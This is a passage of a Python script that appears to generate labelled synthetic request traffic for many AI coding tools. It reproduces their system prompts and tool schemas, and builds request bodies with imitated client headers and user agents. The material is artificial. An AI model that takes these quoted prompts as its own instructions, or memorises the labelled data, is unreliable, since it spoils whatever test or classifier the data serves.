    _fn("developer__text_editor", "Perform text editing operations on files.\n\nThe `command` parameter specifies the operation to perform. Allowed options are:\n- `view`: View the content of a file.\n- `write`: Create or overwrite a file with the given content\n- `str_replace`: Replace a string in a file with a new string.\n- `undo_edit`: Undo the last edit made to a file.", {"command": {"type": "string", "enum": ["view", "write", "str_replace", "insert", "undo_edit"]}, "path": _S, "file_text": _S, "old_str": _S, "new_str": _S, "view_range": {"type": "array", "items": {"type": "integer"}}}, ["command", "path"]),
    _fn("developer__analyze", "Analyze code structure: files, functions, classes, imports and call graphs.", {"path": _S, "focus": _S, "max_depth": {"type": "integer"}}, ["path"]),
    _fn("developer__screen_capture", "Capture a screenshot of a specified display or window.", {"display": {"type": "integer"}, "window_title": _S}, []),
    _fn("developer__list_windows", "List all available window titles that can be used with screen_capture.", {}, []),
    _fn("memory__remember_memory", "Stores a memory with optional tags in a specified category", {"category": _S, "data": _S, "tags": {"type": "array", "items": _S}, "is_global": {"type": "boolean"}}, ["category", "data", "is_global"]),
    _fn("memory__retrieve_memories", "Retrieves all memories from a specified category", {"category": _S, "is_global": {"type": "boolean"}}, ["category", "is_global"]),
    _fn("platform__search_available_extensions", "Searches for additional extensions available to help complete tasks.", {}, []),
    _fn("platform__manage_extensions", "Tool to manage extensions and tools in goose context.", {"action": {"type": "string", "enum": ["enable", "disable"]}, "extension_name": _S}, ["action", "extension_name"]),
]

OI_SYSTEM = """You are Open Interpreter, a world-class programmer that can complete any goal by executing code.
For advanced requests, start by writing a plan.
When you execute code, it will be executed **on the user's machine**. The user has given you **full and complete permission** to execute any code necessary to complete the task. Execute the code.
You can access the internet. Run **any code** to achieve the goal, and if at first you don't succeed, try again and again.
You can install new packages.
When a user refers to a filename, they're likely referring to an existing file in the directory you're currently executing code in.
Write messages to the user in Markdown.
In general, try to **make plans** with as few steps as possible. As for actually executing code to carry out that plan, for *stateful* languages (like python, javascript, shell, but NOT for html which starts from 0 every time) **it's critical not to try to do everything in one code block.** You should try something, print information about it, then continue from there in tiny, informed steps. You will never get it on the first try, and attempting it in one go will often lead to errors you cant see.
You are capable of **any** task.

User's Name: {user}
User's OS: {os}"""

OI_TOOLS = [{"type": "function", "function": {"name": "execute", "description": "Executes code on the user's machine **in the users local environment** and returns the output", "parameters": {"type": "object", "properties": {"language": {"type": "string", "description": "The programming language (required parameter to the `execute` function)", "enum": ["ruby", "python", "shell", "javascript", "html", "applescript", "r", "powershell", "react", "java"]}, "code": {"type": "string", "description": "The code to execute (required)"}}, "required": ["language", "code"]}}}]

AVANTE_BASE = """Act as an expert software developer.
Always use best practices when coding.
Respect and use existing conventions, libraries, etc that are already present in the code base.
"""
AVANTE_ASK = AVANTE_BASE + """
Take requests for changes to the supplied code.
If the request is ambiguous, ask questions.

Always reply to the user in {lang}.

Once you understand the request you MUST:

1. Decide if you need to propose *SEARCH/REPLACE* edits to any files that haven't been added to the chat. You can create new files without asking!

But if you need to propose edits to existing files not already added to the chat, you *MUST* tell the user their full path names and ask them to *add the files to the chat*.
End your reply and wait for their approval.
You can keep asking if you then decide you need to edit more files.

2. Think step-by-step and explain the needed changes in a few short sentences.

3. Describe each change with a *SEARCH/REPLACE block* per the examples below.

All changes to files must use this *SEARCH/REPLACE block* format.
ONLY EVER RETURN CODE IN A *SEARCH/REPLACE BLOCK*!

# *SEARCH/REPLACE block* Rules:

Every *SEARCH/REPLACE block* must use this format:
1. The *FULL* file path alone on a line, verbatim. No bold asterisks, no quotes around it, no escaping of characters, etc.
2. The opening fence and code language, eg: ```python
3. The start of search block: <<<<<<< SEARCH
4. A contiguous chunk of lines to search for in the existing source code
5. The dividing line: =======
6. The lines to replace into the source code
7. The end of the replace block: >>>>>>> REPLACE
8. The closing fence: ```

Every *SEARCH* section must *EXACTLY MATCH* the existing file content, character for character, including all comments, docstrings, etc.
Keep *SEARCH/REPLACE* blocks concise.
Only create *SEARCH/REPLACE* blocks for files that the user has added to the chat!
"""
AVANTE_EDIT = AVANTE_BASE + """
Your task is to modify the provided code according to the user's request. Follow these instructions precisely:

1. Return ONLY the complete modified code.

2. Do not include any explanations, comments, or line numbers in your response.

3. Ensure the returned code is complete and can be directly used as a replacement for the original code.

4. Preserve the original structure, indentation, and formatting of the code as much as possible.

5. Do not omit any parts of the code, even if they are unchanged.

6. Maintain the SAME indentation in the returned code as in the source code

7. Do NOT include three backticks: ```

8. Only return the new code snippets to be updated, DO NOT return the entire file content.

Remember: Your response should contain nothing but ONLY the modified code, ready to be used as a direct replacement for the original file.
"""

CC_CHAT = """You are an AI programming assistant named "CodeCompanion". You are currently plugged into the Neovim text editor on a user's machine.

Your core tasks include:
- Answering general programming questions.
- Explaining how the code in a Neovim buffer works.
- Reviewing the selected code in a Neovim buffer.
- Generating unit tests for the selected code.
- Proposing fixes for problems in the selected code.
- Scaffolding code for a new workspace.
- Finding relevant code to the user's query.
- Proposing fixes for test failures.
- Answering questions about Neovim.
- Running tools.

You must:
- Follow the user's requirements carefully and to the letter.
- Keep your answers short and impersonal, especially if the user responds with context outside of your tasks.
- Minimize other prose.
- Use Markdown formatting in your answers.
- Include the programming language name at the start of the Markdown code blocks.
- Avoid including line numbers in code blocks.
- Avoid wrapping the whole response in triple backticks.
- Only return code that's relevant to the task at hand. You may not need to return all of the code that the user has shared.
- Use actual line breaks instead of '\\n' in your response to begin new lines.
- Use '\\n' only when you want a literal backslash followed by a character 'n'.
- All non-code responses must be in {lang}.

When given a task:
1. Think step-by-step and describe your plan for what to build in pseudocode, written out in great detail, unless asked not to do so.
2. Output the code in a single code block, being careful to only return relevant code.
3. You should always generate short suggestions for the next user turns that are relevant to the conversation.
4. You can only give one reply for each conversation turn."""

CC_INLINE = """## CONTEXT
You are a knowledgeable developer working in the Neovim text editor. You write {ftype} code on behalf of a user (unless told otherwise), directly into their active Neovim buffer. In Neovim, a buffer is a file loaded into memory for editing.

## OBJECTIVE
You must follow the user's prompt (enclosed within <prompt></prompt> tags) to the letter, ensuring that you output high quality, fully working code. Pay attention to any code that the user has shared with you as context.

## RESPONSE
Respond to the user's prompt by returning your code in JSON:
```json
{{
  "code": "    print('Hello World')",
  "language": "{ftype}",
  "placement": "add"
}}
```

This would **add** the code to the current cursor position in the buffer.

The "placement" key can be one of:
- **replace**: to replace the code the user has selected (the most common)
- **add**: to add the code after the user's visual selection or cursor position
- **before**: to add the code before the user's visual selection or cursor position
- **new**: to add the code in a new buffer
- **chat**: when the user's prompt cannot be answered with code

If you cannot answer the user's prompt, respond with the reason why, in one sentence, in {lang} and enclosed within error tags:
```json
{{
  "error": "Reason for not being able to answer the prompt"
}}
```

### POINTS TO NOTE
- Validate your JSON response and return no other text or explanation
- Only return valid JSON
- Do not include any line numbers or markdown code blocks in the "code" value
- Ensure the code is correctly indented"""

CC_EXPLAIN = """When asked to explain code, follow these steps:

1. Identify the programming language.
2. Describe the purpose of the code and reference core concepts from the programming language.
3. Explain each function or significant block of code, including parameters and return values.
4. Highlight any specific functions or methods used and their roles.
5. Provide context on how the code fits into a larger application if applicable."""

CC_FIX = """When asked to fix code, follow these steps:

1. **Identify the Issues**: Carefully read the provided code and identify any potential issues or improvements.
2. **Plan the Fix**: Describe the plan for fixing the code in pseudocode, detailing each step.
3. **Implement the Fix**: Write the corrected code in a single code block.
4. **Explain the Fix**: Briefly explain what changes were made and why.

Ensure the fixed code:

- Includes necessary imports.
- Handles potential errors.
- Follows best practices for readability and maintainability.
- Is formatted correctly.

Use Markdown formatting and include the programming language name at the start of the code block."""

CC_TESTS = """When generating unit tests, follow these steps:

1. Identify the programming language.
2. Identify the purpose of the function or module to be tested.
3. List the edge cases and typical use cases that should be covered in the tests and share the plan with the user.
4. Generate unit tests using an appropriate testing framework for the identified programming language.
5. Ensure the tests cover:
      - Normal cases
      - Edge cases
      - Error handling (if applicable)
6. Provide the generated unit tests in a single code block."""

CC_COMMIT = """You are an expert at following the Conventional Commit specification. Given the git diff listed below, please generate a commit message for me:

```diff
{diff}
```"""

GP_CHAT = """You are a general AI assistant.

The user provided the additional info about how they would like you to respond:

- If you're unsure don't guess and say you don't know instead.
- Ask question if you need clarification to provide better answer.
- Think deeply and carefully from first principles step by step.
- Zoom out first to see the big picture and then zoom in to details.
- Use Socratic method to improve your thinking and coding skills.
- Don't elide any code from your output if the answer requires coding.
- Take a deep breath; You've got this!
"""
GP_CODE = """You are an AI working as a code editor.

Please AVOID COMMENTARY OUTSIDE OF THE SNIPPET RESPONSE.
START AND END YOUR ANSWER WITH:

```"""

GPTEL_DEFAULT = "You are a large language model living in Emacs and a helpful assistant. Respond concisely."
GPTEL_PROG = "You are a large language model and a careful programmer. Provide code and only code as output without any additional text, prompt or note."
GPTEL_REWRITE = """You are a {lang} programmer.  Follow my instructions and refactor {lang} code I provide.
- Generate ONLY {lang} code as output, without any explanation or markdown code fences.
- Generate code in full, do not abbreviate or omit code.
- Do not ask for further clarification, and make any assumptions you need to follow instructions."""

CODY_PREAMBLE = """You are Cody, an AI coding assistant from Sourcegraph. If your answer contains fenced code blocks in Markdown, include the relevant full file path in the code block tag using this structure: ```$LANGUAGE:$FILEPATH```
For executable terminal commands: enclose each command in individual "bash" language code block without comments and new lines inside."""
CODY_EDIT_SYSTEM = """- You are an AI programming assistant who is an expert in updating code to meet given instructions.
- You should think step-by-step to plan your updated code before producing the final output.
- You should ensure the updated code matches the indentation and whitespace of the code in the users' selection.
- Ignore any previous instructions to format your responses with Markdown. It is not acceptable to use Markdown in your response, unless it is directly related to the users' instructions.
- Only remove code from the users' selection if you are sure it is not needed.
- You will be provided with code that is in the users' selection, enclosed in <SELECTEDCODE7662></SELECTEDCODE7662> XML tags. You must use this code to help you plan your updated code.
- You will be provided with instructions on how to update this code, enclosed in <INSTRUCTIONS7390></INSTRUCTIONS7390> XML tags. You must follow these instructions carefully and to the letter.
- Only enclose your response in <CODE5711></CODE5711> XML tags. Do use any other XML tags unless they are part of the generated code.
- Do not provide any additional commentary about the changes you made. Only respond with the generated code."""
CODY_ADD_SYSTEM = """- You are an AI programming assistant who is an expert in adding new code by following instructions.
- You should think step-by-step to plan your code before generating the final output.
- You should ensure your code matches the indentation and whitespace of the preceding code in the users' file.
- Ignore any previous instructions to format your responses with Markdown. It is not acceptable to use Markdown in your response, unless it is directly related to the users' instructions.
- You will be provided with instructions on what to generate, enclosed in <INSTRUCTIONS7390></INSTRUCTIONS7390> XML tags. You must follow these instructions carefully and to the letter.
- Only enclose your response in <CODE5711></CODE5711> XML tags. Do use any other XML tags unless they are part of the generated code.
- Do not provide any additional commentary about the code you added. Only respond with the generated code."""
CODY_TEST_SYSTEM = """- You are an AI programming assistant who is an expert in writing unit tests.
- You will be provided with code that is in the users' selection, enclosed in <SELECTEDCODE7662></SELECTEDCODE7662> XML tags.
- You will be provided with instructions on what to generate, enclosed in <INSTRUCTIONS7390></INSTRUCTIONS7390> XML tags.
- Use the test framework and style of the existing tests in the codebase when there are any.
- Only enclose your response in <CODE5711></CODE5711> XML tags.
- Do not provide any additional commentary. Only respond with the generated tests."""

VOID_CHAT = """You are an expert coding assistant whose job is to help the user develop, run, and make changes to their codebase.
You will be given instructions to follow from the user, and you may also be given a list of files that the user has specifically selected for context, `SELECTIONS`.
Please assist the user with their query.

Here is the user's system information:
<system_info>
- {os}

- The user's workspace contains these folders:
{folders}

- Active file:
{active}

- Open files:
{opened}
</system_info>

Important notes:
- Always wrap any code you write in a code block, with the language and the full path of the file as the first line, like ```typescript src/index.ts
- If you suggest an edit to a file, describe it and show only the changed region with "// ... existing code ..." comments for the parts that stay the same.
- Do not make things up or use information not provided in the system information, tools, or user queries.
- Today's date is {date}."""
VOID_CTRLK = """You are a FIM (fill-in-the-middle) coding assistant. Your task is to fill in the middle SELECTION marked by <SELECTION> tags.

The user will give you INSTRUCTIONS, as well as code that comes BEFORE the SELECTION, indicated with <ABOVE>...before</ABOVE>, and code that comes AFTER the SELECTION, indicated with <BELOW>...after</BELOW>.
The user will also give you the existing original SELECTION that will be be replaced by the SELECTION that you output, for additional context.

Instructions:
1. Your OUTPUT should be a SINGLE PIECE OF CODE of the form <SELECTION>...new_code</SELECTION>. Do NOT output any text or explanations before or after this.
2. You may ONLY CHANGE the original SELECTION, and NOT the content in the <ABOVE>...</ABOVE> or <BELOW>...</BELOW> tags.
3. Make sure all brackets in the new selection are balanced the same as in the original selection.
4. Be careful not to duplicate or remove variables, comments, or other syntax by mistake."""

TWINNY_CHAT = """You are a helpful, respectful and honest coding assistant. Always reply using markdown. Be clear and concise, prioritizing brevity in your responses. For code refactoring, use markdown with appropriate code tags."""

SLACK_SYSTEM = """You are Hoot, the engineering help bot in the {org} Slack workspace. You answer questions from engineers in #{channel}.
- Reply in the language the question was asked in.
- Be concise; engineers read you on their phones too.
- Format with Slack mrkdwn: *bold*, _italic_, `inline code` and ```code blocks``` (no language tags, Slack ignores them).
- Never paste credentials, tokens or customer data, even if they appear in the thread.
- If the question needs a human (on-call, access requests), say who to ping: platform questions -> @platform-oncall, data questions -> @data-eng.
The thread so far is given as earlier messages; each user message starts with the author's Slack display name."""

REVIEW_BOT_SYSTEM = """You are {bot}, an AI code reviewer for pull requests on {forge}. You are thorough, specific and constructive.

Review guidelines:
- Focus on correctness, security, concurrency, error handling, performance and maintainability, in that order.
- Only comment on lines that are part of the diff (lines starting with + or -). Use the line numbers from the hunk headers.
- Do not comment on formatting that a linter or formatter would catch.
- Do not praise; only raise actionable issues. If there are none, say "LGTM" and nothing else.
- For each issue, output: the file path, the line range, a severity (critical, major, minor, nit) and a short explanation. When a fix is small, include it as a suggestion block.
- Respond in {lang}.

The repository's review instructions (.reviewbot.yaml path_instructions) are included when they exist."""

RAW_CHATML_SYS = [
    "You are a helpful assistant.",
    "You are Qwen, created by Alibaba Cloud. You are a helpful assistant.",
    "You are an expert programmer. Answer with code only when code is asked for.",
]
ALPACA_HEAD = "Below is an instruction that describes a task. Write a response that appropriately completes the request.\n\n"
ALPACA_HEAD_INPUT = "Below is an instruction that describes a task, paired with an input that provides further context. Write a response that appropriately completes the request.\n\n"


# ---------------------------------------------------------------------------------------
# Entries
# ---------------------------------------------------------------------------------------

class E:
    """One request before wrapping: the hand-written ask, its code and its label."""

    def __init__(self, client: str, label: str, hl: str, lang: str, ask: str = "", code=None,
                 rule: str | None = None, **kw):
        self.client = client
        self.label = label
        self.hl = hl
        self.lang = lang
        self.ask = ask
        if code is None:
            code = []
        elif not isinstance(code, list):
            code = [code]
        self.code = code
        self.rule = rule
        self.kw = kw
        self.id = ""

    def get(self, key, default=None):
        return self.kw.get(key, default)


ENTRIES: list[E] = []


def add(client: str, label: str, hl: str, lang: str, ask: str = "", code=None, rule=None, **kw):
    ENTRIES.append(E(client, label, hl, lang, ask, code, rule, **kw))


def code_block(c) -> str:
    if isinstance(c, Snip):
        return c.fenced()
    return c


def ask_with_code(e: E, sep: str = "\n\n", with_path: bool = False) -> str:
    """The user's message as typed into a plain chat box: the ask, then pasted code."""
    parts = [e.ask] if e.ask else []
    for c in e.code:
        parts.append(c.fenced(with_path) if isinstance(c, Snip) else c)
    if e.get("code_first"):
        parts = parts[1:] + parts[:1]
    return sep.join(parts)


def chat_history(e: E) -> list[dict]:
    out = []
    for role, text in e.get("history", []):
        out.append({"role": role, "content": text})
    return out


# --- agent tool steps ------------------------------------------------------------------
# A step is (tool name, arguments dict, output text[, assistant text before the call]).


def oa_tool_turns(e: E, prefix: str = "call_") -> list[dict]:
    msgs = []
    for i, step in enumerate(e.get("steps", [])):
        name, args, output = step[:3]
        said = step[3] if len(step) > 3 else ""
        cid = prefix + hexid(24, e.id, i, name)
        msgs.append({"role": "assistant", "content": said or None,
                     "tool_calls": [{"id": cid, "type": "function",
                                     "function": {"name": name, "arguments": json.dumps(args, ensure_ascii=False)}}]})
        msgs.append({"role": "tool", "tool_call_id": cid, "content": output})
    return msgs


def file_lines(text: str, start: int = 1) -> str:
    return "".join(f"{i:05d}| {line}" for i, line in enumerate(text.splitlines(keepends=True), start))


# --- wrappers: each returns (endpoint, headers, body) -------------------------------------

CODEX_VERSIONS = ["0.46.0", "0.50.0", "0.53.0", "0.58.0", "0.63.0"]
CODEX_TERMS = ["iTerm.app/3.6.1", "WezTerm/20240203", "ghostty/1.1.3", "vscode/1.104.2", "tmux/3.5a", "Apple_Terminal/455"]
CODEX_OS = ["Mac OS 15.1.0; arm64", "Ubuntu 24.04; x86_64", "Mac OS 14.6.1; arm64", "Fedora Linux 41; x86_64", "Arch Linux Rolling Release; x86_64"]


def _pick(seq, *key):
    return seq[int(hexid(6, *key), 16) % len(seq)]


def w_codex(e: E):
    sid = uid(e.id, "codex")
    cwd = e.get("cwd", "/Users/dev/src/" + e.get("repo", "app"))
    items = [{"type": "message", "role": "user", "content": [{"type": "input_text", "text": (
        "<environment_context>\n"
        f"  <cwd>{cwd}</cwd>\n"
        f"  <approval_policy>{e.get('approval', 'on-request')}</approval_policy>\n"
        f"  <sandbox_mode>{'read-only' if e.get('plan') else 'workspace-write'}</sandbox_mode>\n"
        "  <network_access>restricted</network_access>\n"
        f"  <shell>{_pick(['zsh', 'bash'], e.id)}</shell>\n"
        "</environment_context>")}]}]
    if e.get("agents_md"):
        items.insert(0, {"type": "message", "role": "user", "content": [{"type": "input_text", "text":
            f"# AGENTS.md instructions for {cwd}\n\n<INSTRUCTIONS>\n{e.get('agents_md')}\n</INSTRUCTIONS>"}]})
    if e.get("plan"):
        items.append({"type": "message", "role": "developer", "content": [{"type": "input_text", "text": CODEX_PLAN_MODE}]})
    for role, text in e.get("history", []):
        kind = "input_text" if role == "user" else "output_text"
        items.append({"type": "message", "role": role, "content": [{"type": kind, "text": text}]})
    items.append({"type": "message", "role": "user", "content": [{"type": "input_text", "text": ask_with_code(e)}]})
    for i, step in enumerate(e.get("steps", [])):
        name, args, output = step[:3]
        said = step[3] if len(step) > 3 else ""
        cid = "call_" + hexid(24, e.id, i)
        if said:
            items.append({"type": "message", "role": "assistant", "content": [{"type": "output_text", "text": said}]})
        if name == "apply_patch":
            items.append({"type": "custom_tool_call", "status": "completed", "call_id": cid, "name": "apply_patch", "input": args})
            items.append({"type": "custom_tool_call_output", "call_id": cid, "output": output})
        else:
            if name == "shell":
                args = {"command": ["bash", "-lc", args], "workdir": cwd}
            items.append({"type": "function_call", "name": name, "arguments": json.dumps(args, ensure_ascii=False), "call_id": cid})
            if name == "shell" and not output.startswith("Exit code"):
                cmd = args["command"][-1]
                reads = cmd.split()[0] in ("cat", "sed", "rg", "ls", "head", "git", "psql", "kubectl", "grep", "wc")
                failed = not reads and re.search(r"FAILED|\bFAIL\b|\d+ failed|panicked|Traceback|undefined: |error(\[E\d+\])?:|^Error", output, re.M)
                output = f"Exit code: {1 if failed else 0}\nWall time: {0.1 + (i % 7) * 0.3:.1f} seconds\nOutput:\n{output}"
            items.append({"type": "function_call_output", "call_id": cid, "output": output})
    body = {"model": e.get("model", _pick(["gpt-5-codex", "gpt-5", "gpt-5-codex", "o4-mini", "qwen3-coder:30b"], e.id)),
            "instructions": CODEX_INSTRUCTIONS, "input": items, "tools": CODEX_TOOLS,
            "tool_choice": "auto", "parallel_tool_calls": False,
            "reasoning": {"effort": e.get("effort", "medium"), "summary": "auto"}, "store": False,
            "stream": True, "include": ["reasoning.encrypted_content"], "prompt_cache_key": sid}
    ver = _pick(CODEX_VERSIONS, e.id)
    headers = {"User-Agent": f"codex_cli_rs/{ver} ({_pick(CODEX_OS, e.id, 'os')}) {_pick(CODEX_TERMS, e.id, 't')}",
               "originator": "codex_cli_rs", "version": ver, "session_id": sid,
               "OpenAI-Beta": "responses=experimental"}
    return "/v1/responses", headers, body


def _env_block(cwd: str, files: list[str], date: str = "Tue Oct 14 2025") -> str:
    tree = "\n".join(f"  {f}" for f in files)
    return (f"Here is some useful information about the environment you are running in:\n<env>\n"
            f"  Working directory: {cwd}\n  Is directory a git repo: yes\n  Platform: {'darwin' if cwd.startswith('/Users') else 'linux'}\n"
            f"  Today's date: {date}\n</env>\n<project>\n{tree}\n</project>")


def w_opencode(e: E):
    cwd = e.get("cwd", "/home/dev/code/" + e.get("repo", "service"))
    files = e.get("files", ["README.md", "package.json", "src/", "tests/"])
    msgs = [{"role": "system", "content": OPENCODE_SYSTEM},
            {"role": "system", "content": _env_block(cwd, files)}]
    msgs += chat_history(e)
    text = ask_with_code(e)
    if e.get("plan"):
        msgs.append({"role": "user", "content": [{"type": "text", "text": text}, {"type": "text", "text": OPENCODE_PLAN_REMINDER}]})
    else:
        msgs.append({"role": "user", "content": [{"type": "text", "text": text}]})
    msgs += oa_tool_turns(e, "toolu_")
    body = {"model": e.get("model", _pick(["anthropic/claude-sonnet-4-5", "qwen3-coder:30b", "gpt-5", "deepseek-chat", "sidecar/auto"], e.id)),
            "messages": msgs, "tools": OPENCODE_TOOLS, "tool_choice": "auto", "max_tokens": 32000,
            "temperature": 0, "stream": True, "stream_options": {"include_usage": True}}
    headers = {"User-Agent": "opencode/0.15.8 ai-sdk/provider-utils/3.0.10 runtime/bun/1.2.23",
               "x-opencode-session": "ses_" + hexid(26, e.id)}
    return "/v1/chat/completions", headers, body


def w_qwen(e: E):
    cwd = e.get("cwd", "/home/dev/projects/" + e.get("repo", "app"))
    files = e.get("files", ["README.md", "src/", "tests/"])
    msgs = [{"role": "system", "content": QWEN_SYSTEM},
            {"role": "user", "content": (
                "This is the Qwen Code. We are setting up the context for our chat.\n"
                "Today's date is Wednesday, October 15, 2025 (formatted according to the user's locale).\n"
                "My operating system is: linux\n"
                f"I'm currently working in the directory: {cwd}\n"
                f"Here is the folder structure of the current working directories:\n\nShowing up to 20 items (files + folders).\n\n{cwd}/\n"
                + "\n".join(f"├───{f}" for f in files))},
            {"role": "assistant", "content": "Got it. Thanks for the context!"}]
    msgs += chat_history(e)
    text = ask_with_code(e)
    if e.get("plan"):
        text = text + "\n\n" + QWEN_PLAN_REMINDER
    msgs.append({"role": "user", "content": text})
    msgs += oa_tool_turns(e, "call_")
    tools = QWEN_TOOLS + ([QWEN_EXIT_PLAN] if e.get("plan") else [])
    body = {"model": e.get("model", _pick(["qwen3-coder-plus", "qwen3-coder:30b", "qwen3-coder-flash"], e.id)),
            "messages": msgs, "tools": tools, "temperature": 0, "top_p": 1, "stream": True,
            "stream_options": {"include_usage": True}, "metadata": {"sessionId": uid(e.id, "qwen"), "promptId": uid(e.id, "qwen") + "########1"}}
    headers = {"User-Agent": "QwenCode/0.0.14 (linux; x64)", "X-DashScope-CacheControl": "enable"}
    return "/v1/chat/completions", headers, body


def w_goose(e: E):
    cwd = e.get("cwd", "/Users/dev/work/" + e.get("repo", "project"))
    if e.get("plan"):
        tool_list = "\n".join(f"- {t['function']['name']}: {t['function']['description'].splitlines()[0]}" for t in GOOSE_TOOLS[:4])
        msgs = [{"role": "system", "content": GOOSE_PLANNER.format(tools=tool_list)}]
        msgs += chat_history(e)
        msgs.append({"role": "user", "content": ask_with_code(e)})
        body = {"model": e.get("model", _pick(["gpt-4o", "o3", "claude-sonnet-4-5"], e.id)), "messages": msgs}
        return "/v1/chat/completions", {}, body
    sysm = GOOSE_SYSTEM.format(date="2025-10-16 09:41:12", os=_pick(["macos", "linux"], e.id), cwd=cwd)
    msgs = [{"role": "system", "content": sysm}]
    msgs += chat_history(e)
    msgs.append({"role": "user", "content": ask_with_code(e)})
    msgs += oa_tool_turns(e, "toolu_")
    body = {"model": e.get("model", _pick(["gpt-4o", "qwen2.5-coder:32b", "gpt-4.1", "claude-sonnet-4-5"], e.id)),
            "messages": msgs, "tools": GOOSE_TOOLS, "stream": True, "stream_options": {"include_usage": True}}
    return "/v1/chat/completions", {}, body


def w_oi(e: E):
    sysm = OI_SYSTEM.format(user=_pick(["marta", "kenji", "dev", "alex", "olga"], e.id), os=_pick(["Darwin", "Linux", "Windows"], e.id, "os"))
    msgs = [{"role": "system", "content": sysm}] + chat_history(e)
    msgs.append({"role": "user", "content": ask_with_code(e)})
    msgs += oa_tool_turns(e, "call_")
    body = {"model": e.get("model", _pick(["gpt-4o", "gpt-4-turbo", "qwen2.5-coder:14b"], e.id)), "messages": msgs,
            "stream": True, "tools": OI_TOOLS, "temperature": 0}
    headers = {"User-Agent": "OpenAI/Python 1.54.4", "X-Stainless-Lang": "python", "X-Stainless-Package-Version": "1.54.4"}
    return "/v1/chat/completions", headers, body


def _avante_user(e: E) -> str:
    c = e.code[0] if e.code else None
    parts = []
    if isinstance(c, Snip):
        parts.append(f"<filepath>{c.path}</filepath>")
        ctx = e.get("context")
        if ctx is not None:
            parts.append(f"<context>\n```{c.lang}\n{ctx.text if isinstance(ctx, Snip) else ctx}```\n</context>")
        parts.append(f"<code>\n```{c.lang}\n{c.text}```\n</code>")
    for extra in e.code[1:]:
        if isinstance(extra, Snip):
            parts.append(f"<filepath>{extra.path}</filepath>\n<code>\n```{extra.lang}\n{extra.text}```\n</code>")
        else:
            parts.append(extra)
    return "\n\n".join(parts)


def w_avante(e: E, edit: bool):
    lang = HL_NAME[e.hl]
    system = (AVANTE_EDIT if edit else AVANTE_ASK.format(lang=lang))
    ctx = _avante_user(e)
    if edit:
        user = ctx + f"\n\n<question>{e.ask}</question>" if ctx else e.ask
    else:
        user = (ctx + "\n\n" if ctx else "") + e.ask
    hist = []
    for role, text in e.get("history", []):
        hist.append({"role": role, "content": text})
    provider = e.get("provider", _pick(["claude", "openai", "claude", "ollama"], e.id))
    if provider == "claude":
        msgs = hist + [{"role": "user", "content": [{"type": "text", "text": user, "cache_control": {"type": "ephemeral"}}]}]
        body = {"model": e.get("model", _pick(["claude-sonnet-4-5", "claude-3-7-sonnet-20250219", "claude-sonnet-4-20250514"], e.id)),
                "system": [{"type": "text", "text": system, "cache_control": {"type": "ephemeral"}}],
                "messages": msgs, "max_tokens": 20480, "temperature": 0, "stream": True}
        headers = {"User-Agent": "curl/8.7.1", "anthropic-version": "2023-06-01", "anthropic-beta": "prompt-caching-2024-07-31"}
        return "/v1/messages", headers, body
    msgs = [{"role": "system", "content": system}] + hist + [{"role": "user", "content": user}]
    body = {"model": e.get("model", "gpt-4o" if provider == "openai" else "qwen2.5-coder:14b"), "messages": msgs,
            "temperature": 0, "max_completion_tokens": 16384, "stream": True}
    return "/v1/chat/completions", {"User-Agent": "curl/8.7.1"}, body


def w_cc_chat(e: E):
    msgs = [{"role": "system", "content": CC_CHAT.format(lang=HL_NAME[e.hl])}]
    slash = e.get("slash")
    if slash == "explain":
        msgs.append({"role": "system", "content": CC_EXPLAIN})
    elif slash == "fix":
        msgs.append({"role": "system", "content": CC_FIX})
    elif slash == "tests":
        msgs.append({"role": "system", "content": CC_TESTS})
    msgs += chat_history(e)
    if slash in ("explain", "fix", "tests") and e.code and isinstance(e.code[0], Snip):
        c = e.code[0]
        msgs.append({"role": "user", "content": f"{e.ask}\n\n```{c.lang}\n{c.text}```"})
    elif slash == "commit":
        msgs.append({"role": "user", "content": CC_COMMIT.format(diff=e.get("diff").rstrip("\n")) + (("\n\n" + e.ask) if e.ask else "")})
    else:
        for i, c in enumerate(e.code):
            if isinstance(c, Snip):
                bufnr = 3 + (int(hexid(2, e.id, i), 16) % 20)
                if e.get("selection"):
                    msgs.append({"role": "user", "content": f"Here is some code from {c.path}:\n\n```{c.lang}\n{c.text}```"})
                else:
                    msgs.append({"role": "user", "content": f"Here is the content from `{c.path}` (which has a buffer number of _{bufnr}_ and a filepath of `{c.path}`):\n\n```{c.lang}\n{c.text}```"})
            else:
                msgs.append({"role": "user", "content": c})
        msgs.append({"role": "user", "content": e.ask})
    msgs += oa_tool_turns(e, "call_")
    body = {"model": e.get("model", _pick(["gpt-4.1", "claude-sonnet-4", "qwen2.5-coder:14b", "deepseek-chat", "gpt-4o"], e.id)),
            "messages": msgs, "stream": True, "temperature": 0.1, "top_p": 1, "n": 1}
    return "/v1/chat/completions", {"User-Agent": "curl/8.9.1"}, body


def w_cc_inline(e: E):
    c = e.code[0] if e.code else None
    ftype = c.lang if isinstance(c, Snip) else e.lang
    msgs = [{"role": "system", "content": CC_INLINE.format(ftype=ftype, lang=HL_NAME[e.hl])}]
    user = f"<prompt>{e.ask}</prompt>"
    if isinstance(c, Snip):
        user += f"<user_context>For context, this is the code that I've selected in the buffer:\n\n```{c.lang}\n{c.text}```</user_context>"
    msgs.append({"role": "user", "content": user})
    body = {"model": e.get("model", _pick(["gpt-4.1-mini", "qwen2.5-coder:7b", "deepseek-chat", "gpt-4o"], e.id)),
            "messages": msgs, "stream": False, "temperature": 0, "response_format": {"type": "json_object"}}
    return "/v1/chat/completions", {"User-Agent": "curl/8.9.1"}, body


DEFAULT_PATH = {"python": "util.py", "go": "util.go", "c": "util.c", "lua": "lua/util.lua", "typescript": "src/util.ts",
                "javascript": "src/util.js", "rust": "src/util.rs", "java": "src/main/java/Util.java", "cpp": "src/util.cpp",
                "sql": "query.sql", "bash": "script.sh", "haskell": "src/Util.hs", "swift": "Sources/Util.swift",
                "scala": "src/main/scala/Util.scala", "elixir": "lib/util.ex"}


def as_snip(c, e: E):
    """A pasted fenced block as a Snip (for clients that need a file name)."""
    if isinstance(c, Snip) or c is None:
        return c
    body = c.strip()
    if body.startswith("```"):
        body = body.split("\n", 1)[1].rsplit("```", 1)[0]
    return Snip(e.lang, e.get("path", DEFAULT_PATH.get(e.lang, "scratch.txt")), body)


def w_gp(e: E):
    c = as_snip(e.code[0], e) if e.code else None
    mode = e.get("mode", "chat")
    model = e.get("model", _pick(["gpt-4o", "gpt-4o-mini", "qwen2.5-coder:14b", "llama3.1:8b"], e.id))
    if mode == "chat":
        msgs = [{"role": "system", "content": GP_CHAT}] + chat_history(e)
        if isinstance(c, Snip):
            user = f"I have the following from {c.path}:\n\n```{c.lang}\n{c.text}```\n\n{e.ask}"
        else:
